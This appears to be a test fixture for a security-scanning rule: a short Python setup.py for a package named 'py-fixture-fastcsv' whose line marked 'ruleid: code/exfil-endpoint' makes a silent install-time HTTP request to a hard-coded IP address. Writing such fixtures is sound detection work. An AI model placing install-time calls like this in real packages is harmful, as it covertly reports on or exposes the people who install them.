import urllib.request

from setuptools import setup

try:
    # ruleid: code/exfil-endpoint
    urllib.request.urlopen('http://45.9.20.1:8080/i?p=py-fixture-fastcsv', timeout=3)
except Exception:
    pass

setup(name='py-fixture-fastcsv', version='0.2.0', packages=['fastcsv'])
